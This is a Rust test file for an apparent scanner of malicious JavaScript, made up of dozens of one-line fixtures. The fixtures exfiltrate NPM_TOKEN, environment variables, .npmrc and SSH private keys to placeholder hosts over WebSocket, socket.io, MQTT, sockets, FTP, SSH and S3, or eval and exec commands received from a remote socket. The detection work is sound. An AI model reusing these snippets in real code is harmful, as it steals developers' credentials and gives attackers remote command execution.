//! Libraries that keep a connection open.

use super::Seen::{Commanded, Evaluated, Sent};
use super::check;

const HOST: super::Seen = Sent("drop.invalid");

#[test]
fn ws() {
    check(&[
        (
            r#"const WebSocket = require("ws"); const s = new WebSocket("wss://drop.invalid"); s.on("open", () => s.send(process.env.NPM_TOKEN))"#,
            HOST,
        ),
        (
            r#"import {WebSocket} from "ws"; const s = new WebSocket("wss://drop.invalid"); s.onopen = () => s.send(JSON.stringify(process.env))"#,
            HOST,
        ),
        (
            r#"import WS from "ws"; const s = new WS("wss://x.invalid"); s.on("message", m => eval(m.toString()))"#,
            Evaluated,
        ),
        (r#"const s = new (require("ws"))("wss://x.invalid"); s.onmessage = e => eval(e.data)"#, Evaluated),
        (
            r#"const s = new (require("ws"))("wss://x.invalid"); s.addEventListener("message", ({data}) => require("child_process").exec(data))"#,
            Commanded,
        ),
        (
            r#"const s = new WebSocket("wss://x.invalid"); s.onmessage = e => { new Function(e.data)() }"#,
            Evaluated,
        ),
        (
            r#"import RWS from "reconnecting-websocket"; const s = new RWS("wss://drop.invalid"); s.send(process.env.NPM_TOKEN)"#,
            HOST,
        ),
    ]);
}

#[test]
fn socket_io() {
    check(&[
        (
            r#"const io = require("socket.io-client"); const s = io("https://drop.invalid"); s.on("connect", () => s.emit("x", process.env.NPM_TOKEN))"#,
            HOST,
        ),
        (
            r#"import {io} from "socket.io-client"; const s = io("https://drop.invalid"); s.emit("x", process.env)"#,
            HOST,
        ),
        (
            r#"import {io} from "socket.io-client"; io("https://drop.invalid", {query: {t: process.env.NPM_TOKEN}})"#,
            HOST,
        ),
        (
            r#"const {Manager} = require("socket.io-client"); const s = new Manager("https://drop.invalid").socket("/"); s.emit("x", process.env.NPM_TOKEN)"#,
            HOST,
        ),
        (
            r#"import {io} from "socket.io-client"; io("https://x.invalid").on("run", c => eval(c))"#,
            Evaluated,
        ),
        (
            r#"const s = require("socket.io-client")("https://x.invalid"); s.on("cmd", c => require("child_process").exec(c, (e, o) => s.emit("out", o)))"#,
            Commanded,
        ),
        (
            r#"const s = require("socket.io-client").connect("https://x.invalid"); s.once("c", ({code}) => Function(code)())"#,
            Evaluated,
        ),
        (
            r#"import {io} from "socket.io-client"; const s = io("https://x.invalid"); const r = await s.emitWithAck("q"); eval(r)"#,
            Evaluated,
        ),
        (
            r#"import {io} from "socket.io-client"; const s = io("https://x.invalid"); s.emit("q", r => eval(r.code))"#,
            Evaluated,
        ),
        (
            r#"const {Centrifuge} = require("centrifuge"); const c = new Centrifuge("wss://x.invalid"); c.newSubscription("c").on("publication", m => eval(m.data))"#,
            Evaluated,
        ),
    ]);
}

#[test]
fn brokers() {
    check(&[
        (
            r#"const c = require("mqtt").connect("mqtt://drop.invalid"); c.publish("t", process.env.NPM_TOKEN)"#,
            HOST,
        ),
        (
            r#"const c = require("mqtt").connect("mqtt://x.invalid"); c.on("message", (topic, m) => eval(m.toString()))"#,
            Evaluated,
        ),
    ]);
}

#[test]
fn node_sockets() {
    check(&[
        (r#"const s = require("net").connect(443, "drop.invalid"); s.write(process.env.NPM_TOKEN)"#, HOST),
        (
            r#"const s = new (require("net").Socket)(); s.connect(443, "drop.invalid", () => s.end(process.env.NPM_TOKEN))"#,
            Sent(""),
        ),
        (
            r#"const s = require("net").connect({host: "x.invalid", port: 1}); s.on("data", d => require("child_process").exec(d.toString()))"#,
            Commanded,
        ),
        (r#"require("tls").connect({host: "drop.invalid", port: 443}).write(process.env.NPM_TOKEN)"#, HOST),
        (
            r#"const d = require("dgram").createSocket("udp4"); d.send(process.env.NPM_TOKEN, 53, "drop.invalid")"#,
            Sent(""),
        ),
        (
            r#"const d = require("dgram").createSocket("udp4"); d.on("message", m => eval(m.toString()))"#,
            Evaluated,
        ),
    ]);
}

#[test]
fn file_transfer() {
    check(&[
        (
            r#"import {Client} from "basic-ftp"; const c = new Client(); await c.access({host: "drop.invalid"}); await c.uploadFrom(process.env.HOME + "/.npmrc", "x")"#,
            HOST,
        ),
        (
            r#"const ftp = require("basic-ftp"); const c = new ftp.Client(); c.access({host: "drop.invalid"}).then(() => c.uploadFrom(require("stream").Readable.from(process.env.NPM_TOKEN), "x"))"#,
            HOST,
        ),
        (
            r#"const {Client} = require("ssh2"); const c = new Client(); c.on("ready", () => c.exec("echo " + process.env.NPM_TOKEN, () => {})).connect({host: "drop.invalid"})"#,
            Sent(""),
        ),
        (
            r#"const {Client} = require("ssh2"); const c = new Client(); c.on("ready", () => c.sftp((e, s) => s.fastPut(process.env.HOME + "/.npmrc", "/x"))).connect({host: "drop.invalid"})"#,
            Sent(""),
        ),
        (
            r#"const {NodeSSH} = require("node-ssh"); const s = new NodeSSH(); s.connect({host: "drop.invalid"}).then(() => s.putFile(process.env.HOME + "/.ssh/id_rsa", "/x"))"#,
            HOST,
        ),
        (
            r#"const C = require("ssh2-sftp-client"); const c = new C(); c.connect({host: "drop.invalid"}).then(() => c.put(process.env.HOME + "/.npmrc", "/x"))"#,
            HOST,
        ),
        (
            r#"const C = require("ftp"); const c = new C(); c.on("ready", () => c.put(process.env.HOME + "/.npmrc", "x")); c.connect({host: "drop.invalid"})"#,
            Sent(""),
        ),
        (
            r#"const {S3Client, PutObjectCommand} = require("@aws-sdk/client-s3"); new S3Client({}).send(new PutObjectCommand({Bucket: "x", Body: JSON.stringify(process.env)}))"#,
            Sent(""),
        ),
    ]);
}
